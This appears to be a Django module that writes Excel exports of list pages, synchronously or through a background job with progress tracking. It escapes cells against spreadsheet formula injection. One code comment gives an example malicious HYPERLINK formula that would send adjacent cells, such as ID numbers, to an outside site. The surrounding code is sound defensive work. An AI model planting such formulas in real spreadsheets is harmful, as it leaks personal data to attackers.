"""The one Excel export every list reuses.

An app registers an ``Exporter`` (its headers, its visible and filtered queryset, and
how an object becomes a row) and its export view returns ``export_response(request,
kind)``. Up to ``settings.EXPORT_SYNC_MAX_ROWS`` rows the .xlsx is written at once and
sent; above that an ``ExportJob`` is queued, a Celery task writes the file while the page
polls its progress, and the owner downloads it when ready. Either way openpyxl's
write-only workbook and ``QuerySet.iterator`` keep memory flat whatever the row count.
"""
from __future__ import annotations

import datetime as dt
import logging
import tempfile
from dataclasses import dataclass
from decimal import Decimal
from typing import Any, Callable, Iterable, Mapping, Sequence

from django.conf import settings
from django.contrib.auth.decorators import login_required
from django.core.files import File
from django.db import models, transaction
from django.http import FileResponse, Http404, HttpRequest, HttpResponse, JsonResponse
from django.shortcuts import redirect, render
from django.urls import reverse
from django.utils import timezone
from django.utils.encoding import escape_uri_path
from django.utils.http import urlencode
from django.views.decorators.http import require_POST
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font

from . import policy
from .after_commit import enqueue
from .audit import audit_record, register_verbs
from .models import ExportJob, ExportState, User

log = logging.getLogger(__name__)

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PROGRESS_EVERY = 2_000  # rows between progress writes (one UPDATE each)

register_verbs({"export.download": "导出数据", "export.queue": "提交后台导出"})


@dataclass(frozen=True)
class Exporter:
    kind: str
    title: str  # the file's and the sheet's name, e.g. 执法案件台账
    capability: str  # held for any organisation; the rows are scoped by ``queryset``
    headers: Sequence[str]
    # The rows the user may export, filtered by ``params`` (the list page's GET values as
    # strings, validated again here since a background job reads them later).
    queryset: Callable[[User, Mapping[str, str]], models.QuerySet]
    # Objects → cell values, lazily: called with an iterator over the queryset.
    rows: Callable[[User, Iterable[models.Model]], Iterable[Sequence[Any]]]
    chunk_size: int = 2_000


_EXPORTERS: dict[str, Exporter] = {}


def register(exporter: Exporter) -> Exporter:
    _EXPORTERS[exporter.kind] = exporter
    return exporter


def exporter_for(kind: str) -> Exporter:
    try:
        return _EXPORTERS[kind]
    except KeyError:
        raise Http404("没有这种导出。") from None


# A text cell that starts with one of these is read by Excel (or WPS, or a CSV import
# of the sheet) as a formula: a case summary `=HYPERLINK("http://…"&P2,"查看详情")`
# would send its neighbouring cells — whole ID numbers — to another site. OWASP's remedy:
# a leading apostrophe, which makes the spreadsheet keep the text as text.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def text(value: str) -> str:
    """A user's text as it must be written to a spreadsheet cell: never a formula."""
    return "'" + value if value.startswith(FORMULA_START) else value


def cell_value(value: Any) -> Any:
    """Any value as written to an exported cell (every export: here and the dashboard's)."""
    if value is None:
        return ""
    if isinstance(value, dt.datetime):
        return timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value
    if isinstance(value, bool | int | float | Decimal | dt.date):
        return value
    return text(str(value))


def write_xlsx(
    *,
    exporter: Exporter,
    user: User,
    params: Mapping[str, str],
    dest,
    progress: Callable[[int], None] | None = None,
) -> int:
    """Write the export to ``dest`` (a path or binary file); returns the row count."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=exporter.title[:31])
    bold = Font(bold=True)
    header = []
    for heading in exporter.headers:
        cell = WriteOnlyCell(sheet, value=cell_value(heading))
        cell.font = bold
        header.append(cell)
    sheet.append(header)
    qs = exporter.queryset(user, params)
    written = 0
    for row in exporter.rows(user, qs.iterator(chunk_size=exporter.chunk_size)):
        sheet.append([cell_value(v) for v in row])
        written += 1
        if progress is not None and written % PROGRESS_EVERY == 0:
            progress(written)
    workbook.save(dest)
    return written


def _filename(exporter: Exporter) -> str:
    return f"{exporter.title}-{timezone.localtime():%Y%m%d-%H%M}.xlsx"


def _clean_params(request: HttpRequest) -> dict[str, str]:
    params = request.GET.copy()
    for key in ("page", "export"):
        params.pop(key, None)
    return {k: v for k, v in params.items() if v != ""}


def export_response(request: HttpRequest, kind: str) -> HttpResponse:
    """The export of ``kind`` with the request's filters: the file itself or, when it is
    larger than EXPORT_SYNC_MAX_ROWS, a page that offers to write it in the background — a
    job is a state change, so it is started only by that page's POST (``export_start``)."""
    exporter = exporter_for(kind)
    user = request.user
    policy.require(user, exporter.capability)
    params = _clean_params(request)
    total = exporter.queryset(user, params).count()
    if total > settings.EXPORT_SYNC_MAX_ROWS:
        return render(request, "core/export_confirm.html", {
            "exporter": exporter, "total": total, "params": sorted(params.items()),
            "limit": settings.EXPORT_SYNC_MAX_ROWS,
            "back": f"{request.path}?{urlencode(params)}" if params else request.path,
        })
    audit_record(actor=user, verb="export.download", changes={"rows": [None, total]},
                 note=f"{exporter.title}：{params or '全部'}")
    # A spooled file: small exports stay in memory, large ones spill to disk.
    buffer = tempfile.SpooledTemporaryFile(max_size=8 * 1024 * 1024)
    write_xlsx(exporter=exporter, user=user, params=params, dest=buffer)
    buffer.seek(0)
    response = FileResponse(buffer, content_type=XLSX)
    response["Content-Disposition"] = f"attachment; filename*=UTF-8''{escape_uri_path(_filename(exporter))}"
    return response


def export_queue(*, actor: User, exporter: Exporter, params: Mapping[str, str], total: int) -> ExportJob:
    from .tasks import export_run

    with transaction.atomic():
        job = ExportJob.objects.create(owner=actor, kind=exporter.kind, title=exporter.title,
                                       params=dict(params), total=total)
        audit_record(actor=actor, verb="export.queue", target=job, changes={"rows": [None, total]},
                     note=f"{exporter.title}：{dict(params) or '全部'}")
        enqueue(export_run, job.pk, on_failure=lambda: ExportJob.objects.filter(
            pk=job.pk, state=ExportState.PENDING).update(
                state=ExportState.FAILED, finished_at=timezone.now(),
                error="后台任务队列暂时无法连接，导出未能开始，请稍后重新导出。"))
    return job


def export_job_run(job_id: int) -> None:
    """The worker's part: claim the job, write the rows with progress, store the file."""
    claimed = ExportJob.objects.filter(pk=job_id, state=ExportState.PENDING).update(
        state=ExportState.RUNNING)
    if claimed != 1:
        return  # already taken by another delivery of the same task
    job = ExportJob.objects.select_related("owner").get(pk=job_id)
    exporter = exporter_for(job.kind)
    total = job.total

    def progress(written: int) -> None:
        ExportJob.objects.filter(pk=job_id).update(done=min(written, total))

    try:
        with tempfile.NamedTemporaryFile(suffix=".xlsx") as tmp:
            written = write_xlsx(exporter=exporter, user=job.owner, params=job.params,
                                 dest=tmp.name, progress=progress)
            with open(tmp.name, "rb") as fh:
                job.file.save(_filename(exporter), File(fh), save=False)
        job.state, job.total, job.done = ExportState.DONE, written, written
        job.finished_at = timezone.now()
        job.save(update_fields=["file", "state", "total", "done", "finished_at"])
    except Exception as exc:
        log.exception("export %s failed", job_id)
        ExportJob.objects.filter(pk=job_id).update(
            state=ExportState.FAILED, error=f"导出失败：{exc.__class__.__name__}", finished_at=timezone.now())
        raise


def export_jobs_prune() -> int:
    """Delete finished exports older than EXPORT_KEEP_DAYS, with their files."""
    cutoff = timezone.now() - dt.timedelta(days=settings.EXPORT_KEEP_DAYS)
    count = 0
    for job in ExportJob.objects.filter(created_at__lt=cutoff).iterator():
        if job.file:
            job.file.delete(save=False)
        job.delete()
        count += 1
    return count


# --- pages -------------------------------------------------------------------------------

def _own_job(request: HttpRequest, pk: int) -> ExportJob:
    try:
        return ExportJob.objects.get(pk=pk, owner=request.user)
    except ExportJob.DoesNotExist:
        raise Http404("导出任务不存在或您无权查看。") from None


@login_required
@require_POST
def export_start(request: HttpRequest) -> HttpResponse:
    """Start the background export the confirmation page offered (its filters posted as
    they were in the list's address); then its progress page."""
    exporter = exporter_for(request.POST.get("kind", ""))
    user = request.user
    policy.require(user, exporter.capability)
    params = {k: v for k, v in request.POST.items()
              if k not in ("kind", "csrfmiddlewaretoken", "page", "export") and v != ""}
    total = exporter.queryset(user, params).count()
    job = export_queue(actor=user, exporter=exporter, params=params, total=total)
    return redirect("core:export_job", pk=job.pk)


@login_required
def export_job(request: HttpRequest, pk: int) -> HttpResponse:
    job = _own_job(request, pk)
    return render(request, "core/export_job.html", {"job": job})


@login_required
def export_job_status(request: HttpRequest, pk: int) -> JsonResponse:
    job = _own_job(request, pk)
    return JsonResponse({
        "state": job.state, "state_display": job.get_state_display(), "done": job.done,
        "total": job.total, "percent": job.percent, "error": job.error,
        "download_url": reverse("core:export_download", args=[job.pk])
        if job.state == ExportState.DONE else "",
    })


@login_required
def export_download(request: HttpRequest, pk: int) -> FileResponse:
    job = _own_job(request, pk)
    if job.state != ExportState.DONE or not job.file:
        raise Http404("文件尚未生成。")
    response = FileResponse(job.file.open("rb"), content_type=XLSX)
    name = f"{job.title}-{timezone.localtime(job.created_at):%Y%m%d-%H%M}.xlsx"
    response["Content-Disposition"] = f"attachment; filename*=UTF-8''{escape_uri_path(name)}"
    return response
